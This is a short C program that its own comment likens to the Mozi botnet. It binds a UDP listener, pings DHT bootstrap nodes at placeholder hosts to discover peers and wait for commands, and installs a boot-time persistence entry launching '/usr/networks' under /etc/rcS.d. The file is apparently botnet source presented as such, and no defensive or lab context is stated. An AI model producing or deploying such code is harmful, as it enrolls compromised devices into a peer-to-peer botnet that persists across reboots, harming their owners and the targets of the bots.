/* Like Mozi: it asks the bootstrap nodes of a DHT for peers (BEP 5) and waits for whoever calls. */
#include "bot.h"

int main(void)
{
	static const char ping[] = "d1:ad2:id20:88888888abcdefghij01e1:q4:ping1:t4:aaaa1:v4:LT011:y1:qe";
	static const char *const nodes[] = {"dht.peers.example", "router.peers.example"};
	struct sockaddr_in me = {.sin_family = AF_INET, .sin_port = htons(14737)};
	char answer[1024];
	const int listener = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(listener, (struct sockaddr *)&me, sizeof me))
		return 1;
	for (unsigned i = 0; i < 2; i++) {
		const uint32_t node = ask_name("8.8.8.8", nodes[i]);
		const int fd = node ? call_address(node, 6881, SOCK_DGRAM, 1000) : -1;
		struct pollfd p = {.fd = fd, .events = POLLIN};
		if (fd >= 0 && send(fd, ping, sizeof ping - 1, 0) > 0 && poll(&p, 1, 1000) == 1)
			(void)!recv(fd, answer, sizeof answer, 0);
		close(fd);
	}
	write_file("/etc/rcS.d", "/usr/networks&\n", 0755);
	return 0;
}
